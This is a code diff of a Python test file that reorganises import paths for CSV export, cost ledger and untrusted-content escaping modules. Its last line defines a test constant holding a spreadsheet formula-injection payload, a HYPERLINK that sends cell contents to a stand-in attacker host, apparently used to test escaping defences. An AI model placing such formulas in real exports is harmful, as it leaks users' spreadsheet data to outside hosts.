@@ -7,18 +7,18 @@ import io
 
 import pytest
 
-from core.batch_export import to_csv as batch_csv
-from core.batch_jobs import RowResult, RowStatus
-from core.costs import cost_calls, ledger_csv
-from core.errors import CallProblem
-from core.events import RecordedEvent
-from core.events.exports import events_csv
-from core.ledger import SessionLedger
-from core.measure import runs_to_csv
-from core.pricing import ModelPrice, PriceTable, load_price_table
-from core.streaming import StreamRecord
-from core.trace import CallTrace, Outcome
-from core.untrusted import answer_markdown, code_span, csv_cell, csv_text, escape_markdown
+from core.batch import RowResult, RowStatus
+from core.batch.export import to_csv as batch_csv
+from core.call.errors import CallProblem
+from core.call.trace import CallTrace, Outcome
+from core.money.costs import cost_calls, ledger_csv
+from core.money.ledger import SessionLedger
+from core.money.pricing import ModelPrice, PriceTable, load_price_table
+from core.patterns.events import RecordedEvent
+from core.patterns.events.exports import events_csv
+from core.patterns.measure import runs_to_csv
+from core.patterns.streaming import StreamRecord
+from core.security.untrusted import answer_markdown, code_span, csv_cell, csv_text, escape_markdown
 from tests.ledger_records import ledger_record
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
